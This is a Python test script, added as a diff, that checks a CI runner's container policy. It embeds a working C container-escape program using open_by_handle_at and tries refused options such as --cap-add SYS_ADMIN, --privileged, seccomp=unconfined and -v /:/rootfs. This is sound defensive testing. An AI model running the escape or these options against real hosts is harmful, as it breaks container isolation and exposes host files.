@@ -1,0 +1,344 @@
+#!/usr/bin/env python3
+"""Hostile workflows against the runner's container policy, with runnerctl exec and the real
+engine: capabilities (an open_by_handle_at escape built here with gcc -static reads a host
+file only when a label allows DAC_READ_SEARCH; --cap-add DAC_READ_SEARCH, SYS_ADMIN and ALL and
+--security-opt are refused with file:line:col, on the command line and through a label config),
+the capability drop floor, --entrypoint in a job container, limits that options cannot lift
+(--pids-limit -1, and the 4096 default without -c), a label's pinned image against the job's
+container.image (and allow_job_image), host-path volumes, and timeout-minutes that are not a
+positive number of minutes."""
+import ctypes
+import json
+import os
+import secrets
+import subprocess
+import sys
+import tempfile
+
+RUNNERCTL = os.environ["RUNNERCTL"]
+SRCDIR = os.environ["SRCDIR"]
+failures = 0
+
+
+def check(name, cond, detail=""):
+    global failures
+    print(("ok   " if cond else "FAIL ") + name + ("" if cond or not detail else ": " + detail[-3000:]))
+    if not cond:
+        failures += 1
+
+
+def sh(*args):
+    return subprocess.run(args, capture_output=True, text=True)
+
+
+img = sh(os.path.join(SRCDIR, "tests/images/build.sh"), "busybox")
+if img.returncode != 0:
+    print("FAIL building the busybox test image: " + img.stderr)
+    sys.exit(1)
+IMAGE = img.stdout.strip().splitlines()[-1]
+IMAGE_ID = sh("docker", "image", "inspect", "-f", "{{.Id}}", IMAGE).stdout.strip()
+left_behind = []
+
+
+def leftovers(label):
+    c = sh("docker", "ps", "-aq", "--filter", "label=" + label).stdout.split()
+    n = sh("docker", "network", "ls", "-q", "--filter", "label=" + label).stdout.split()
+    v = sh("docker", "volume", "ls", "-q", "--filter", "label=" + label).stdout.split()
+    return c + n + v
+
+
+def run(ws, wf, *args):
+    """runnerctl exec of workflow text wf with workspace ws; (rc, stdout+stderr)."""
+    path = os.path.join(os.path.dirname(ws), "wf.yml")
+    with open(path, "w") as f:
+        f.write(wf)
+    p = subprocess.Popen([RUNNERCTL, "exec", "-C", ws, *args, path], stdout=subprocess.PIPE,
+                         stderr=subprocess.STDOUT, text=True)
+    out, _ = p.communicate(timeout=300)
+    left_behind.extend(leftovers("io.runnerd.owner=%s:%d" % (os.uname().nodename, p.pid)))
+    return p.returncode, out
+
+
+def config(tmp, labels):
+    """A config.yaml whose runnerd.labels are labels (name -> settings lines)."""
+    path = os.path.join(tmp, "config.yaml")
+    with open(path, "w") as f:
+        f.write("runnerd:\n  labels:\n")
+        for name, lines in labels.items():
+            f.write("    %s:\n" % name)
+            for line in lines:
+                f.write("      %s\n" % line)
+    return path
+
+
+# The escape: with CAP_DAC_READ_SEARCH, open_by_handle_at() opens any inode of a filesystem
+# given any fd on it (here the bind-mounted workspace), whatever the container's mounts hide.
+ESCAPE_C = r"""
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+int main(int argc, char **argv)
+{
+    struct file_handle *h = calloc(1, sizeof *h + 128);
+    unsigned char *p = h->f_handle;
+    const char *hex = argv[2];
+    char buf[256];
+    int mnt, fd;
+    ssize_t n;
+
+    if (argc != 3)
+        return 2;
+    h->handle_type = atoi(argv[1]);
+    for (; hex[0] && hex[1]; hex += 2) {
+        unsigned v;
+        sscanf(hex, "%2x", &v);
+        *p++ = (unsigned char)v;
+    }
+    h->handle_bytes = (unsigned)(p - h->f_handle);
+    mnt = open("/workspace", O_RDONLY | O_DIRECTORY);
+    fd = open_by_handle_at(mnt, h, O_RDONLY);
+    if (fd < 0) {
+        perror("escape: open_by_handle_at");
+        return 1;
+    }
+    n = read(fd, buf, sizeof buf - 1);
+    buf[n > 0 ? n : 0] = 0;
+    printf("escape read: %s\n", buf);
+    return 0;
+}
+"""
+
+
+def handle_of(path):
+    """The host's file handle of path (name_to_handle_at): (type, hex bytes)."""
+    class FH(ctypes.Structure):
+        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int),
+                    ("data", ctypes.c_ubyte * 128)]
+    libc = ctypes.CDLL(None, use_errno=True)
+    fh = FH(bytes=128)
+    mnt = ctypes.c_int()
+    if libc.name_to_handle_at(-100, path.encode(), ctypes.byref(fh), ctypes.byref(mnt), 0) != 0:
+        raise OSError(ctypes.get_errno(), "name_to_handle_at " + path)
+    return fh.type, bytes(fh.data[:fh.bytes]).hex()
+
+
+def escape_wf(options):
+    return """on: push
+jobs:
+  esc:
+    runs-on: builder
+    container:
+      image: %s
+      options: %s
+    steps:
+      - run: ./escape $(cat handle.txt)
+""" % (IMAGE, options)
+
+
+with tempfile.TemporaryDirectory() as tmp:
+    ws = os.path.join(tmp, "ws")
+    secret_dir = os.path.join(tmp, "host-only")
+    os.makedirs(ws)
+    os.makedirs(secret_dir)
+    marker = "host-marker-" + secrets.token_hex(8)
+    with open(os.path.join(secret_dir, "marker"), "w") as f:
+        f.write(marker + "\n")
+    with open(os.path.join(tmp, "escape.c"), "w") as f:
+        f.write(ESCAPE_C)
+    cc = sh("gcc", "-static", "-O1", "-o", os.path.join(ws, "escape"), os.path.join(tmp, "escape.c"))
+    check("the escape program builds (gcc -static)", cc.returncode == 0, cc.stderr)
+    htype, hhex = handle_of(os.path.join(secret_dir, "marker"))
+    with open(os.path.join(ws, "handle.txt"), "w") as f:
+        f.write("%d %s\n" % (htype, hhex))
+    label = ["-l", "builder=docker://" + IMAGE]
+
+    # 1. --cap-add DAC_READ_SEARCH from the workflow: refused before anything runs.
+    rc, out = run(ws, escape_wf("--cap-add DAC_READ_SEARCH"), "--bind", *label)
+    check("cap-add DAC_READ_SEARCH refused (exit 2)", rc == 2, out)
+    check("cap-add DAC_READ_SEARCH: file:line:col and the capability",
+          "wf.yml:7:16: jobs.esc.container.options: --cap-add DAC_READ_SEARCH is not allowed" in out, out)
+    check("cap-add DAC_READ_SEARCH: the marker was not read", marker not in out, out)
+    for opt, what in (("--cap-add SYS_ADMIN", "--cap-add SYS_ADMIN is not allowed"),
+                      ("--cap-add=ALL", "--cap-add ALL is not allowed"),
+                      ("--cap-add cap_sys_ptrace", "--cap-add SYS_PTRACE is not allowed"),
+                      ("--security-opt seccomp=unconfined", "option '--security-opt' is not allowed"),
+                      ("--security-opt=apparmor=unconfined", "option '--security-opt' is not allowed"),
+                      ("--privileged", "option '--privileged' is not allowed"),
+                      ("--entrypoint /bin/sh", "option '--entrypoint' is not allowed in a job container")):
+        rc, out = run(ws, escape_wf(opt), *label)
+        check("%s refused at load with file:line:col" % opt,
+              rc == 2 and ("wf.yml:7:16: jobs.esc.container.options: " + what) in out, out)
+    # Services: the same capability rule, and --security-opt.
+    svc = """on: push
+jobs:
+  s:
+    runs-on: builder
+    services:
+      db:
+        image: %s
+        options: %%s
+    steps:
+      - run: echo never
+""" % IMAGE
+    for opt, what in (("--cap-add SYS_ADMIN", "--cap-add SYS_ADMIN is not allowed"),
+                      ("--security-opt label=disable", "option '--security-opt' is not allowed")):
+        rc, out = run(ws, svc % opt, *label)
+        check("services: %s refused at load with file:line:col" % opt,
+              rc == 2 and ("wf.yml:8:18: jobs.s.services.db.options: " + what) in out
+              and "never" not in out, out)
+    # An expression is checked when the job starts, with its position.
+    rc, out = run(ws, escape_wf("${{ format('--cap-add {0}', 'DAC_READ_SEARCH') }}"), "--bind", *label)
+    check("cap-add from an expression: job fails, file:line:col",
+          rc == 1 and "wf.yml:7:16: container.options: --cap-add DAC_READ_SEARCH is not allowed" in out
+          and marker not in out, out)
+
+    # 2. A label that allows nothing: the program runs in the job and cannot read the marker.
+    rc, out = run(ws, escape_wf("--cpus 1"), "--bind", *label)
+    check("no capability added: the escape fails inside the job",
+          rc == 1 and "escape: open_by_handle_at" in out and marker not in out, out)
+
+    # 3. Through a label config: cap_add is the operator's allow-list, per label.
+    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_add: [NET_ADMIN]"]})
+    for opt in ("--cap-add DAC_READ_SEARCH", "--cap-add SYS_ADMIN", "--cap-add ALL"):
+        rc, out = run(ws, escape_wf(opt), "--bind", "-c", cfg)
+        check("label allowing NET_ADMIN: %s refused" % opt,
+              rc == 2 and "is not allowed" in out and marker not in out, out)
+    rc, out = run(ws, escape_wf("--cap-add NET_ADMIN"), "--bind", "-c", cfg)
+    check("label allowing NET_ADMIN: --cap-add NET_ADMIN runs", rc == 1 and "escape:" in out
+          and marker not in out, out)
+    # The positive control: the escape works on this host when an operator opens it (so the
+    # refusals above are what stands between a workflow and the host's files).
+    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_add: [DAC_READ_SEARCH]"]})
+    rc, out = run(ws, escape_wf("--cap-add DAC_READ_SEARCH"), "--bind", "-c", cfg)
+    check("control: a label with cap_add [DAC_READ_SEARCH] lets the escape read the host file",
+          rc == 0 and ("escape read: " + marker) in out, out)
+
+    # 4. The capability drop floor: NET_RAW, MKNOD, AUDIT_WRITE are gone from the job container
+    # (CapBnd bit 13 NET_RAW, 27 MKNOD, 29 AUDIT_WRITE), also without -c; a config moves it.
+    capwf = """on: push
+jobs:
+  c:
+    runs-on: builder
+    container:
+      image: %s
+    steps:
+      - run: grep CapBnd /proc/self/status
+      - run: echo "pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)"
+""" % IMAGE
+
+    def capbnd(out):
+        for line in out.splitlines():
+            if "CapBnd:" in line:
+                return int(line.strip()[-16:], 16)
+        return None
+    rc, out = run(ws, capwf, *label)
+    b = capbnd(out)
+    check("drop floor by default (no -c)", rc == 0 and b is not None and
+          not b & (1 << 13) and not b & (1 << 27) and not b & (1 << 29) and b & (1 << 0), out)
+    check("default pids limit without -c is 4096", "pids=4096" in out, out)
+    cfg = config(tmp, {"builder": ["image: " + IMAGE, "cap_drop: [CHOWN]"]})
+    rc, out = run(ws, capwf, "-c", cfg)
+    b = capbnd(out)
+    check("a label's cap_drop replaces the floor", rc == 0 and b is not None and
+          not b & (1 << 0) and b & (1 << 13), out)
+
+    # 5. Limits have floors options cannot lift, with or without -c.
+    pidwf = """on: push
+jobs:
+  p:
+    runs-on: builder
+    container:
+      image: %s
+      options: %%s
+    steps:
+      - run: echo "pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)"
+""" % IMAGE
+    for opt in ("--pids-limit -1", "--pids-limit=0"):
+        rc, out = run(ws, pidwf % opt, *label)
+        check("%s refused at load (no -c)" % opt, rc == 2 and "wf.yml:7:16: jobs.p.container.options: "
+              "--pids-limit: expected a positive number of processes" in out, out)
+    rc, out = run(ws, pidwf % "--pids-limit 100000", *label)
+    check("--pids-limit 100000 does not lift the 4096 default (no -c)", rc == 0 and "pids=4096" in out, out)
+
+    # 6. A label's pinned image is a policy.
+    other = """on: push
+jobs:
+  i:
+    runs-on: builder
+    container:
+      image: %s
+    steps:
+      - run: echo ran-in-job-image
+"""
+    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID]})
+    rc, out = run(ws, other % "evil.example/miner:latest", "-c", cfg)
+    check("pinned label refuses another container.image",
+          rc == 1 and "wf.yml:6:14: container.image: label builder runs only its pinned image" in out
+          and "allow_job_image" in out and "ran-in-job-image" not in out, out)
+    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID, "allow_job_image: true"]})
+    rc, out = run(ws, other % IMAGE, "-c", cfg)
+    check("allow_job_image: true runs the job's image", rc == 0 and "ran-in-job-image" in out, out)
+    cfg = config(tmp, {"builder": ["image: " + IMAGE_ID]})
+    rc, out = run(ws, other % IMAGE_ID, "-c", cfg)
+    check("the pinned image itself is fine", rc == 0 and "ran-in-job-image" in out, out)
+
+    # 7. Host paths in volumes are refused with file:line:col.
+    volwf = """on: push
+jobs:
+  v:
+    runs-on: builder
+    container:
+      image: %s
+      volumes:
+        - %s:/host
+      options: -v /:/rootfs
+    steps:
+      - run: cat /host/marker
+""" % (IMAGE, secret_dir)
+    rc, out = run(ws, volwf, *label)
+    check("host-path volumes refused at load", rc == 2 and "wf.yml:8:11: jobs.v.container.volumes[0]" in out
+          and "wf.yml:9:16: jobs.v.container.options: -v /:/rootfs: host paths are not allowed" in out
+          and marker not in out, out)
+
+    # 8. timeout-minutes: literals at load, expressions when evaluated.
+    towf = """on: push
+jobs:
+  t:
+    runs-on: builder
+    timeout-minutes: %s
+    steps:
+      - run: echo step-ran
+"""
+    for v, what in (("-1", "expected a positive number of minutes"), ("1e9", "at most 43200 minutes"),
+                    ("0", "expected a positive number of minutes")):
+        rc, out = run(ws, towf % v, *label)
+        check("timeout-minutes: %s refused at load" % v,
+              rc == 2 and ("wf.yml:5:22: jobs.t.timeout-minutes: " + what) in out, out)
+    rc, out = run(ws, towf % "${{ 'abc' }}", *label)
+    check("timeout-minutes: ${{ 'abc' }} fails the job naming file:line:col",
+          rc == 1 and "wf.yml:5:22: timeout-minutes: expected a positive number of minutes, got \"abc\"" in out
+          and "| step-ran" not in out, out)
+    stepwf = """on: push
+jobs:
+  t:
+    runs-on: builder
+    steps:
+      - run: echo step-ran
+        timeout-minutes: ${{ 1e9 }}
+      - run: echo second-ran
+"""
+    rc, out = run(ws, stepwf, *label)
+    check("step timeout-minutes: ${{ 1e9 }} fails the step naming file:line:col",
+          rc == 1 and "wf.yml:7:26: timeout-minutes: at most 43200 minutes" in out
+          and "| step-ran" not in out, out)
+
+check("nothing left behind", not left_behind, " ".join(left_behind))
+for obj in left_behind:
+    sh("docker", "rm", "-f", "-v", obj)
+    sh("docker", "network", "rm", obj)
+    sh("docker", "volume", "rm", "-f", obj)
+sys.exit(1 if failures else 0)
